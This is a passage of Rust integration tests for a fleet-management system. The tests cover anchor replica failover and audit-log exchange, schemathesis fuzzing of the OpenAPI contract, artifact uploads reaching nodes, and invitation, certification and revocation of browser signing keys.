        &b_dir,
        free_udp_port(),
        &["--peer".into(), a.addr_on("127.0.0.1")],
    );
    let b_url = http_url(&b_dir);
    assert_ne!(a.peer_id(), b.peer_id(), "each replica has its own key");
    let _node = start_node(&n1, &[a.addr_on("127.0.0.1"), b.addr_on("127.0.0.1")]);
    for url in [&a_url, &b_url] {
        assert!(
            wait_for(WITHIN, || node_row(url, &token, "n1")["connected"] == true),
            "n1 not connected to {url}"
        );
    }
    // Kill one; operators go on with the other (same token).
    a.kill();
    let (status, r) = post(&format!("{b_url}/api/apply"), &token, app_file("web", "v2"));
    assert_eq!(status, 200, "{r}");
    assert!(
        wait_for(
            WITHIN,
            || node_row(&b_url, &token, "n1")["workloads"]["web"]["version"] == "v2"
        ),
        "the edit made on the replica did not run on n1: {}",
        node_row(&b_url, &token, "n1")
    );
    // Back, the dead one catches up: nothing lost.
    let _a = start_anchor(&a_dir, a_port, &[]);
    let a_url = http_url(&a_dir);
    assert!(
        wait_for(WITHIN, || api_get(&format!("{a_url}/api/apps/web"), &token)
            ["spec"]["version"]
            == "v2"),
        "the restarted anchor did not get the edit"
    );

    // The audit trails are exchanged: B's edit and B's refusal reach A's
    // timeline and security log, named as B's, and A's entries from
    // before it died are in B's.
    assert_eq!(
        http(
            "GET",
            &format!("{b_url}/api/nodes"),
            Some("shoal-op-wrong"),
            None
        )
        .0,
        401
    );
    let name_of = |url: &str| {
        api_get(&format!("{url}/api/whoami"), &token)["anchor"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    let (a_name, b_name) = (name_of(&a_url), name_of(&b_url));
    assert!(!a_name.is_empty() && a_name != b_name, "{a_name} {b_name}");
    let items = |url: &str, what: &str| -> Vec<Value> {
        api_get(&format!("{url}/api/{what}?per_page=500"), &token)["items"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    let has = |url: &str, what: &str, anchor: &str, text: &str| {
        items(url, what).iter().any(|e| {
            e["anchor"] == anchor
                && [&e["text"], &e["reason"]]
                    .iter()
                    .any(|t| t.as_str().is_some_and(|t| t.contains(text)))
        })
    };
    assert!(
        wait_for(WITHIN, || has(
            &a_url,
            "timeline",
            &b_name,
            "applied app/web"
        ) && has(
            &a_url,
            "security",
            &b_name,
            "unknown, revoked or expired"
        )),
        "B's entries did not reach A: timeline {:?} security {:?}",
        items(&a_url, "timeline"),
        items(&a_url, "security")
    );
    assert!(
        wait_for(WITHIN, || has(&b_url, "timeline", &a_name, "n1 connected")),
        "A's entries did not reach B: {:?}",
        items(&b_url, "timeline")
    );
    // Each entry once, however often the replicas asked each other.
    let timeline = items(&a_url, "timeline");
    let mut ids: Vec<(String, u64)> = timeline
        .iter()
        .map(|e| {
            (
                e["anchor"].as_str().unwrap_or_default().to_string(),
                e["id"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    let n = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), n, "an entry twice: {timeline:?}");
}

/// The schema-driven fuzzer from PyPI that `scripts/test.sh` installs,
/// pinned, into the tests' virtualenv.
fn schemathesis() -> std::path::PathBuf {
    let python = std::env::var("SHOAL_PYTHON").unwrap_or_else(|_| {
        let home = std::env::var("HOME").unwrap_or_default();
        format!("{home}/.cache/shoal/venv/bin/python")
    });
    let st = Path::new(&python).with_file_name("st");
    assert!(
        st.exists(),
        "no schemathesis at {}: run ./scripts/test.sh (it installs it) or set SHOAL_PYTHON",
        st.display()
    );
    st
}

/// Every check on (CLI flags would override the per-operation lines).
/// `/api/apply` takes any text as YAML manifests, and `/api/changes` any
/// bytes as a bundle of signed changes, which no schema can tell valid from
/// not: there "valid data is accepted" is off; so too where a valid request
/// needs what no schema names (`/api/prepare`: an entity or conflict that
/// exists; `/api/keys/enroll`: a live invitation code; `/api/keys/invite`: a
/// name that is a valid name; `/api/keys/certificates`: a certificate the
/// root signed). `/api/events` is a
/// stream with no parameters: nothing to fuzz, and each request would wait
/// out the stream.
///
/// One worker, not two: schemathesis runs workers as threads, and
/// Hypothesis parses the source of its strategies' lambdas with `ast`,
/// which in CPython 3.11 is not thread-safe ("AST constructor recursion
/// depth mismatch", then a FlakyFailure reported as a Runtime Error). Seen
/// in CI on `/api/conflicts/resolve` and reproduced here in 5 of 5 runs of
/// the coverage phase with two workers under load, 0 of 7 with one.
const SCHEMATHESIS: &str = r#"
[checks]
not_a_server_error.enabled = true
status_code_conformance.enabled = true
content_type_conformance.enabled = true
response_schema_conformance.enabled = true
response_headers_conformance.enabled = true
positive_data_acceptance.enabled = true
negative_data_rejection.enabled = true
use_after_free.enabled = true
ensure_resource_availability.enabled = true
missing_required_header.enabled = true
ignored_auth.enabled = true

[[operations]]
include-path = "/api/apply"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/changes"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/prepare"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/keys/invite"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/keys/enroll"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/keys/certificates"
checks.positive_data_acceptance.enabled = false

[[operations]]
include-path = "/api/events"
phases.fuzzing.enabled = false
"#;

/// The OpenAPI document says exactly what the API does: schemathesis
/// generates requests from it (valid and invalid, following the links from
/// lists to items) and checks every answer against it — status codes,
/// content types, bodies, and that what the document allows is accepted
/// and what it forbids is refused (see [`SCHEMATHESIS`] for the two
/// exceptions and why).
#[test]
fn the_api_keeps_its_openapi_contract() {
    let st = schemathesis();
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let anchor_dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&anchor_dir), "--name", "f"]);
    let token = operator_token(&anchor_dir, "fuzz");
    // Schemathesis sends wrong tokens on every operation on purpose and
    // expects 401 or 403 each time: the failed-login limit (its own unit
    // test in cloud-anchor's api.rs) would answer 429 after ten.
    let mut anchor = start_anchor(
        &anchor_dir,
        free_udp_port(),
        &["--failed-logins-per-minute".into(), "0".into()],
    );
    let url = http_url(&anchor_dir);
    // Something for the item routes to find.
    let f = write(root, "app.yaml", &app_yaml("web", "v1"));
    ok(&["apply", "-f", s(&f), "--anchor", &url, "--token", &token]);
    let config = write(root, "schemathesis.toml", SCHEMATHESIS);
    let out = std::process::Command::new(&st)
        .arg("--config-file")
        .arg(&config)
        .args(["--no-color", "run", &format!("{url}/api/openapi.json")])
        .args(["-H", &format!("Authorization: Bearer {token}")])
        .args(["--max-examples", "25", "--seed", "7", "--workers", "1"])
        .current_dir(root)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let summary: String = text
        .lines()
        .skip_while(|l| !l.contains("SUMMARY"))
        .collect::<Vec<_>>()
        .join("\n");
    eprintln!("{summary}");
    assert!(
        out.status.success(),
        "schemathesis found answers the OpenAPI document does not allow:\n{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tested: usize = text
        .lines()
        .find_map(|l| l.trim().strip_prefix("Tested: "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(tested >= 30, "only {tested} operations tested:\n{summary}");
    anchor.stop();
}

/// An operator uploads a model through the API (`PUT /api/artifacts/m`):
/// the anchor hashes it into its blob store and declares it; a node whose
/// app names it fetches it, and the API shows the node holding it whole.
#[test]
fn an_artifact_uploaded_through_the_api_reaches_a_node() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let anchor_dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&anchor_dir), "--name", "f"]);
    let anchor = start_anchor(&anchor_dir, free_udp_port(), &[]);
    let token = operator_token(&anchor_dir, "alice");
    let url = http_url(&anchor_dir);
    // 300 kB of text (the helper sends strings): 19 groups.
    let model: String = (0..300_000u32)
        .map(|i| char::from(b'a' + (i.wrapping_mul(2_654_435_761) >> 27) as u8 % 26))
        .collect();
    let put = |name: &str, body: &str| {
        http(
            "PUT",
            &format!("{url}/api/artifacts/{name}?mediaType=text/plain&description=a%20test"),
            Some(&token),
            Some(body),
        )
    };
    let (status, body) = put("m", &model);
    assert_eq!(status, 200, "{body}");
    let answer: Value = serde_json::from_str(&body).unwrap();
    let hash = blobs::Hash::of(model.as_bytes()).to_string();
    assert_eq!(answer["hash"], hash.as_str());
    assert_eq!(answer["size"], 300_000);
    assert_eq!(
        std::fs::read(anchor_dir.join("blobs").join(&hash)).unwrap(),
        model.as_bytes()
    );
    // Refusals name what was wrong.
    let (status, body) = put("Not%20A%20Name", "x");
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("name"), "{body}");
    let (status, _) = http("PUT", &format!("{url}/api/artifacts/m2"), None, Some("x"));
    assert_eq!(status, 401, "an upload needs a token");
    let listed = api_get(&format!("{url}/api/get/artifacts?output=json"), &token);
    assert_eq!(listed["m"]["hash"], hash.as_str(), "{listed}");
    assert_eq!(listed["m"]["mediaType"], "text/plain", "{listed}");

    // A node whose app names it gets it.
    let nd = root.join("n1");
    enroll(&anchor_dir, &nd, "n1", "s1");
    let file = write(root, "m.txt", &model);
    let node = start_node(&nd, &[anchor.addr_on("127.0.0.1")]);
    let app = json!({ "files": [{ "name": "r.yaml", "text": format!(
        "apiVersion: shoal.dev/v1\nkind: App\nmetadata: {{name: r}}\nspec:\n  native:\n    command: [/bin/sh, -c, 'cmp \"$SHOAL_ARTIFACT_M\" {} && echo SAME; exec sleep 3600']\n  artifacts: {{m: m}}\n",
        file.display()
    ) }] });
    let (status, body) = post(&format!("{url}/api/apply"), &token, app);
    assert_eq!(status, 200, "{body}");
    let out = nd.join("apps/r/stdout.log");
    assert!(
        wait_for(Duration::from_secs(60), || std::fs::read_to_string(&out)
            .is_ok_and(|l| l.contains("SAME"))),
        "the node's app did not read the upload: {}",
        node.log_text()
    );
    assert!(
        wait_for(Duration::from_secs(60), || {
            let l = api_get(&format!("{url}/api/get/artifacts?output=json"), &token);
            l["m"]["nodes"]["n1"]["held"] == 300_000
        }),
        "the API never showed n1 holding it"
    );
    drop((node, anchor));
}

/// A new Ed25519 public key (a browser's, as the anchor sees it).
fn browser_key() -> crdt_state::PublicKey {
    let k = crdt_state::signed::identity::generate_key().unwrap();
    crdt_state::PublicKey(k.verifying_key().to_bytes())
}

/// What the web UI does with a browser key, done here: asks the anchor to
/// prepare an edit for `who`'s key, signs the unsigned change it makes, and
/// posts it; the anchor's refusal, if any.
fn sign_prepared(
    url: &str,
    token: &str,
    who: &crdt_state::Identity,
    yaml: &str,
) -> Result<(), String> {
    use base64::Engine;
    use crdt_state::signed::bundle::Bundle;
    use crdt_state::signed::doc::signing_message;
    let (status, v) = post(
        &format!("{url}/api/prepare?key={}", who.key()),
        token,
        json!({ "apply": { "files": [{ "name": "edit", "text": yaml }] } }),
    );
    assert_eq!(status, 200, "{v}");
    let edit = &v["edits"][0];
    let doc = crdt_state::DocId::parse(edit["doc"].as_str().unwrap()).unwrap();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(edit["change"].as_str().unwrap())
        .unwrap();
    let hash = crdt_state::signed::doc::decode_change(&bytes)
        .unwrap()
        .hash();
    assert_eq!(edit["hash"], hash.to_string());
    let root = crdt_state::PublicKey::from_hex(v["root"].as_str().unwrap()).unwrap();
    let signature = who.sign(&signing_message(&doc, &hash));
    let bundle = Bundle {
        root: Some(root),
        certs: Vec::new(),
        docs: vec![(doc, vec![crdt_state::SignedChange { bytes, signature }])],
    };
    cloud_anchor::client::Client::new(url, token)
        .post_changes(bundle.encode(root))
        .map_err(|e| format!("{e:#}"))
}

/// Browser keys at the API (ADR 0015), on an anchor without the root:
/// only admins invite, and only operators or site engineers; a code binds
/// the first key sent with it; a certificate is published only if the
/// root signed it for the invited key, name and role, sent by an admin.
/// An anchor that still holds the root certifies a key when it comes.
#[test]
fn browser_keys_are_invited_bound_and_certified_by_the_root() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let dir = root.join("anchor");
    ok(&["fleet", "init", "--data-dir", s(&dir), "--name", "f"]);
    let op = root.join("op");
    ok(&[
        "fleet",
        "migrate",
        "--data-dir",
        s(&dir),
        "--out",
        s(&op),
        "--site",
        "north",
    ]);
    let admin = token_with_role(&dir, "adm", "admin");
    let operator = token_with_role(&dir, "ops", "operator");
    let _anchor = start_anchor(&dir, free_udp_port(), &[]);
    let url = http_url(&dir);
    let invite = |token: &str, body: Value| post(&format!("{url}/api/keys/invite"), token, body);

    let (status, v) = invite(&operator, json!({ "name": "carol", "role": "operator" }));
    assert_eq!(status, 403, "{v}");
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("needs the admin role"),
        "{v}"
    );
    for (role, site) in [
        ("anchor", None::<&str>),
        ("issuer", None),
        ("site-engineer", None),
    ] {
        let (status, v) = invite(&admin, json!({ "name": "x", "role": role, "site": site }));
        assert_eq!(status, 400, "{role}: {v}");
    }
    let (status, v) = invite(&admin, json!({ "name": "carol", "role": "operator" }));
    assert_eq!(status, 200, "{v}");
    let code = v["code"].as_str().unwrap().to_string();
    assert!(
        !std::fs::read_to_string(dir.join("browser-keys.json"))
            .unwrap()
            .contains(&code),
        "the code is kept hashed"
    );

    let carol_secret = crdt_state::signed::identity::generate_key().unwrap();
    let key = crdt_state::PublicKey(carol_secret.verifying_key().to_bytes());
    let enroll = |k: crdt_state::PublicKey| {
        post(
            &format!("{url}/api/keys/enroll"),
            &operator,
            json!({ "code": code, "key": k.to_hex() }),
        )
    };
    let (status, v) = enroll(key);
    assert_eq!((status, v["state"].as_str()), (200, Some("pending")), "{v}");
    let (status, v) = enroll(browser_key());
    assert_eq!(status, 409, "{v}");
    let (status, v) = post(
        &format!("{url}/api/keys/enroll"),
        &operator,
        json!({ "code": "shoal-key-0000", "key": key.to_hex() }),
    );
    assert_eq!(status, 403, "{v}");

    // Certificates: the root's, for the invited name and role only.
    let dd = crdt_state::DataDir::open(&op, None).unwrap();
    let other = root.join("other");
    ok(&["fleet", "init", "--data-dir", s(&other), "--name", "f"]);
    let stranger = crdt_state::DataDir::open(&other, None).unwrap();
    let certify = |token: &str, cert: &crdt_state::Certificate| {
        post(
            &format!("{url}/api/keys/certificates"),
            token,
            json!({ "certificate": cert }),
        )
    };
    let now = 1_800_000_000;
    let good = dd
        .issue(key, crdt_state::Role::Operator, None, "carol", now)
        .unwrap();
    for (cert, why) in [
        (
            dd.issue(key, crdt_state::Role::Operator, None, "mallory", now)
                .unwrap(),
            "the invitation is for carol",
        ),
        (
            dd.issue(
                key,
                crdt_state::Role::SiteEngineer,
                Some("north"),
                "carol",
                now,
            )
            .unwrap(),
            "the invitation is for carol (operator)",
        ),
        (
            stranger
                .issue(key, crdt_state::Role::Operator, None, "carol", now)
                .unwrap(),
            "certificate:",
        ),
    ] {
        let (status, v) = certify(&admin, &cert);
        assert_eq!(status, 400, "{v}");
        assert!(v["error"].as_str().unwrap().contains(why), "{why}: {v}");
    }
    let (status, v) = certify(&operator, &good);
    assert_eq!(status, 403, "{v}");
    let (status, v) = certify(&admin, &good);
    assert_eq!(
        (status, v["state"].as_str()),
        (200, Some("certified")),
        "{v}"
    );
    let (_, v) = enroll(key);
    assert_eq!(v["certificate"]["name"], "carol", "{v}");
    let keys = api_get(&format!("{url}/api/keys"), &admin);
    assert_eq!(keys["items"][0]["state"], "certified", "{keys}");

    // Carol's key signs what the anchor prepares for it; once an admin
    // revoked her (signed where the root is, sent to the anchor), her next
    // change is refused.
    let carol = crdt_state::Identity::new(good.clone(), carol_secret).unwrap();
    let cfg = |v: &str| {
        format!(
            "apiVersion: shoal.dev/v1\nkind: Config\nmetadata: {{name: c}}\nspec: {{data: {{v: \"{v}\"}}}}\n"
        )
    };
    sign_prepared(&url, &operator, &carol, &cfg("1")).unwrap();
    let out = ok(&[
        "identity",
        "revoke",
        "--anchor",
        &url,
        "--token",
        &admin,
        "--identity",
        s(&op.join("identity.json")),
        "carol",
        "--reason",
        "laptop lost",
    ]);
    assert!(out.contains("carol") && out.contains("revoked"), "{out}");
    let keys = api_get(&format!("{url}/api/keys"), &admin);
    assert_eq!(keys["items"][0]["state"], "revoked", "{keys}");
    let refused = sign_prepared(&url, &operator, &carol, &cfg("2")).unwrap_err();
    assert!(
        refused.contains("403") && refused.contains("revoked"),
        "{refused}"
    );
    let no_identity = shoal(&[
        "identity", "revoke", "--anchor", &url, "--token", &admin, "carol",
    ]);
    assert!(!no_identity.status.success());

    // An anchor that holds the root certifies at once.
    let dir2 = root.join("anchor2");
    ok(&["fleet", "init", "--data-dir", s(&dir2), "--name", "g"]);
    let admin2 = token_with_role(&dir2, "adm", "admin");
    let _anchor2 = start_anchor(&dir2, free_udp_port(), &[]);
    let url2 = http_url(&dir2);
    let (_, v) = post(
        &format!("{url2}/api/keys/invite"),
        &admin2,
        json!({ "name": "erin", "role": "site-engineer", "site": "north" }),
    );
    let code2 = v["code"].as_str().unwrap();
    let key2 = browser_key();
    let (status, v) = post(
        &format!("{url2}/api/keys/enroll"),
        &admin2,
        json!({ "code": code2, "key": key2.to_hex() }),
    );
    assert_eq!(
        (status, v["state"].as_str()),
        (200, Some("certified")),
        "{v}"
    );
    assert_eq!(v["certificate"]["key"], key2.to_hex(), "{v}");
    assert_eq!(v["certificate"]["site"], "north", "{v}");
}
